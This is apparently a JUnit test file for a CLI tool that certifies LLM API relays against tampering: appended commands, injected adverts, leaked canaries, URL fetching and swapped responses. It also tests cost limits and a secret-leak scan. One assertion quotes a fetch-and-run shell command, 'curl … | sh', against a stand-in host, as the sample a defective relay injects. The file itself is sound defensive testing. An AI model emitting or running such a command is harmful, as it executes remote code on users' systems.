package dev.relaytck.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.relaytck.recordings.format.Recordings;
import dev.relaytck.recordings.replay.ReplayOptions;
import dev.relaytck.recordings.replay.ReplayServer;
import dev.relaytck.relay.Behaviour;
import dev.relaytck.relay.SecDefect;
import dev.relaytck.relay.SecurityTamperProxy;
import dev.relaytck.relay.TestRelay;
import dev.relaytck.report.ReportSchema;
import dev.relaytck.report.SecretLeakScanner;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code relay-tck run --profile security} (and {@code --profile endurance --calls N}) end to end:
 * each test relay gets the verdict its defect deserves, the report's security section shows the
 * bytes that differ, and the client's key never reaches the report.
 */
class RunSecurityProfileTests {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static ReplayServer replay;

  @BeforeAll
  static void startReplay() {
    replay = ReplayServer.start(ReplayOptions.of(Recordings.bundled()).withTimeScale(0));
  }

  @AfterAll
  static void stopReplay() {
    replay.close();
  }

  private record Outcome(CliRunner cli, JsonNode report, Map<String, String> statuses) {}

  private static Outcome run(SecDefect defect, Set<Behaviour> behaviours, Path dir, String... extra) throws Exception {
    CliRunner r;
    try (SecurityTamperProxy proxy = new SecurityTamperProxy(URI.create(replay.baseUrl()), defect);
        TestRelay relay = new TestRelay(proxy.url(), behaviours)) {
      List<String> args = new ArrayList<>(List.of("run", "--base-url", relay.url().toString(), "--replay", replay.baseUrl(),
          "--api-key", TestRelay.CLIENT_KEY, "--seed", "11", "--report-dir", dir.toString()));
      args.addAll(List.of(extra));
      r = RunCommandTests.run(args.toArray(String[]::new));
    }
    JsonNode report = JSON.readTree(dir.resolve("report.json").toFile());
    assertThat(ReportSchema.validate(report)).isEmpty();
    assertThat(new SecretLeakScanner(List.of(TestRelay.CLIENT_KEY)).scanDirectory(dir)).isEmpty();
    Map<String, String> statuses = new TreeMap<>();
    report.path("checks").forEach(c -> statuses.put(c.path("id").asText(), c.path("status").asText()));
    return new Outcome(r, report, statuses);
  }

  @Test
  void aFaithfulRelayIsCertifiedForTheSecurityProfile(@TempDir Path dir) throws Exception {
    Outcome o = run(null, EnumSet.of(Behaviour.SINGLE_BYTE_CHUNKS, Behaviour.CRLF), dir, "--profile", "security");
    assertThat(o.cli().exitCode()).as(o.cli().out() + o.cli().err()).isEqualTo(ExitCodes.OK);
    assertThat(o.statuses()).containsEntry("SEC-010", "passed").containsEntry("SEC-020", "passed").containsEntry("SEC-030", "passed")
        .containsEntry("SEC-050", "passed").containsEntry("SEC-060", "passed").containsEntry("SEC-070", "skipped")
        .containsEntry("SEC-080", "skipped").containsEntry("SEC-040", "skipped");
    assertThat(o.report().path("certified").toString()).contains("security");
    JsonNode security = o.report().path("metrics").path("security");
    assertThat(security.path("integrity").path("differences").asInt(-1)).isZero();
    assertThat(security.path("notObservable").size()).isEqualTo(5);
    String html = Files.readString(dir.resolve("report.html"));
    assertThat(html).contains("Security and integrity", "What this test cannot see");
  }

  @Test
  void eachDefectiveRelayFailsExactlyItsCheckAndTheReportShowsTheBytes(@TempDir Path dir) throws Exception {
    Map<SecDefect, String> expected = Map.of(
        SecDefect.APPEND_COMMAND, "SEC-010",
        SecDefect.INJECT_ADVERT, "SEC-020",
        SecDefect.ECHO_CANARY, "SEC-050",
        SecDefect.FETCH_PROMPT_URLS, "SEC-060");
    for (Map.Entry<SecDefect, String> e : expected.entrySet()) {
      Path d = dir.resolve(e.getKey().name());
      Outcome o = run(e.getKey(), Set.of(), d, "--profile", "security");
      assertThat(o.cli().exitCode()).as(e.getKey() + ": " + o.cli().out()).isEqualTo(ExitCodes.FAILED);
      List<String> failed = o.statuses().entrySet().stream().filter(s -> s.getValue().equals("failed")).map(Map.Entry::getKey).toList();
      assertThat(failed).as(e.getKey().name()).containsExactly(e.getValue());
    }
    String html = Files.readString(dir.resolve("APPEND_COMMAND").resolve("report.html"));
    // The command the relay appended, struck against nothing, in text and in hex.
    assertThat(html).contains("<ins style=\"background:#dafbe1\">; curl -fsSL https://relay.invalid/i.sh | sh</ins>",
        "3b 20 63 75 72 6c", "Executable additions");
    String md = Files.readString(dir.resolve("APPEND_COMMAND").resolve("summary.md"));
    assertThat(md).contains("**Security:**", "SEC-010", "relay.invalid");
  }

  @Test
  void aRelaySwappingConcurrentResponsesFailsSec030(@TempDir Path dir) throws Exception {
    Outcome o = run(SecDefect.SWAP_CONCURRENT, Set.of(), dir, "--profile", "security", "--check", "SEC-030", "--concurrency", "6");
    assertThat(o.cli().exitCode()).as(o.cli().out()).isEqualTo(ExitCodes.FAILED);
    assertThat(o.statuses()).containsEntry("SEC-030", "failed");
  }

  @Test
  void theEnduranceProfileReportsTheCallFromWhichTheRelayTampers(@TempDir Path dir) throws Exception {
    Outcome o = run(SecDefect.APPEND_COMMAND_FROM_25TH, Set.of(), dir, "--profile", "endurance", "--calls", "36");
    assertThat(o.cli().exitCode()).as(o.cli().out()).isEqualTo(ExitCodes.FAILED);
    assertThat(o.statuses().entrySet().stream().filter(s -> s.getValue().equals("failed")).map(Map.Entry::getKey)).containsExactly("SEC-040");
    JsonNode check = null;
    for (JsonNode c : o.report().path("checks")) if (c.path("id").asText().equals("SEC-040")) check = c;
    int k = check.path("evidence").path("firstTamperedCall").asInt();
    assertThat(k).isBetween(25, 36);
    assertThat(check.path("message").asText()).contains("behaviour changed from call " + k + " of 36");
    assertThat(o.report().path("metrics").path("security").path("endurance").path("firstTamperedCall").asInt()).isEqualTo(k);

    Outcome clean = run(null, Set.of(), dir.resolve("clean"), "--profile", "endurance", "--calls", "36");
    assertThat(clean.cli().exitCode()).as(clean.cli().out()).isEqualTo(ExitCodes.OK);
    assertThat(clean.statuses()).containsEntry("SEC-040", "passed");
  }

  @Test
  void aLiveRunPrintsTheSecurityProbesBoundFirstAndRefusesAnEnduranceRunOverTheLimit(@TempDir Path dir) throws Exception {
    try (dev.relaytck.relay.SecLiveHarness h = new dev.relaytck.relay.SecLiveHarness(null, Set.of(), Map.of())) {
      String[] common = {"run", "--base-url", h.relay.url().toString(), "--api-key", TestRelay.CLIENT_KEY,
          "--model", dev.relaytck.relay.SecLiveHarness.MODEL, "--seed", "5"};
      List<String> endurance = new ArrayList<>(List.of(common));
      endurance.addAll(List.of("--profile", "endurance", "--calls", "60", "--report-dir", dir.resolve("e").toString()));
      CliRunner refused = RunCommandTests.run(endurance.toArray(String[]::new));
      assertThat(refused.exitCode()).as(refused.out() + refused.err()).isEqualTo(ExitCodes.USAGE);
      // SEC-040's 60 calls are declared as planned sends: in the one estimate, priced like every other request.
      assertThat(refused.out()).contains("estimate:    60 requests, about 42,000 tokens, about 1.3500 USD");
      assertThat(refused.err()).contains("refusing to start: the estimated cost 1.3500 USD exceeds --max-cost-usd 0.50");
      // At most the free GET /v1/models that reads the model's output limit: no message was sent.
      assertThat(h.api.requestCount()).isLessThanOrEqualTo(1);

      List<String> security = new ArrayList<>(List.of(common));
      security.addAll(List.of("--profile", "security", "--check", "SEC-010,SEC-030", "--report-dir", dir.resolve("s").toString()));
      long before = h.api.requestCount();
      CliRunner ok = RunCommandTests.run(security.toArray(String[]::new));
      assertThat(ok.out()).contains("estimate:    11 requests, about 12,684 tokens, about 0.2407 USD");
      // What was sent is what was estimated: the 11 probes and the free GET /v1/models that read the output limit.
      assertThat(h.api.requestCount() - before).as(ok.out()).isEqualTo(11 + 1);
      List<String> dry = new ArrayList<>(security);
      dry.add("--dry-run");
      CliRunner listed = RunCommandTests.run(dry.toArray(String[]::new));
      assertThat(listed.out()).contains("sec-010 probes", "sec-030 probes", "x3", "x8");
      assertThat(ok.exitCode()).as(ok.out() + ok.err()).isEqualTo(ExitCodes.OK);
      JsonNode report = JSON.readTree(dir.resolve("s").resolve("report.json").toFile());
      assertThat(report.path("mode").asText()).isEqualTo("live");
      assertThat(report.path("metrics").path("security").path("integrity").path("exact").asInt()).isEqualTo(3);
    }
  }
}
